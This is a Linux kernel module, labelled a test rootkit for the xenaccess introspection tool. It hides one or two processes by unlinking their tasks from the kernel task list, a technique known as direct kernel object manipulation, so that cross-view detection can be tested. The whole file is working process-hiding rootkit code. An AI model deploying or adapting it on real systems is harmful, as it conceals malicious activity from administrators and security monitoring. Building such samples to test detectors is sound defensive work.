/* Test rootkit (b): hides a process by unlinking its task from the task
 * list (DKOM, as in FU / many Linux rootkits). The task stays in the PID
 * IDR, its thread group and the scheduler, which is what a cross view sees. */
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/pid.h>
#include <linux/rculist.h>

static int target_pid, target_pid2; /* a second pid: 0 for none */
module_param(target_pid, int, 0444);
module_param(target_pid2, int, 0444);

static int rk_hide(int pid)
{
    struct task_struct *task;

    rcu_read_lock();
    task = pid_task(find_vpid(pid), PIDTYPE_PID);
    if (!task) {
        rcu_read_unlock();
        pr_err("rk_hideproc: no pid %d\n", pid);
        return -ESRCH;
    }
    list_del_rcu(&task->tasks);
    INIT_LIST_HEAD(&task->tasks); /* a later exit unlinks an empty node */
    rcu_read_unlock();
    pr_info("rk_hideproc: unlinked pid %d from the task list\n", pid);
    return 0;
}

static int __init rk_hideproc_init(void)
{
    int rc = rk_hide(target_pid);

    if (rc == 0 && target_pid2)
        rc = rk_hide(target_pid2);
    return rc;
}
module_init(rk_hideproc_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("xenaccess test rootkit: task list unlink");
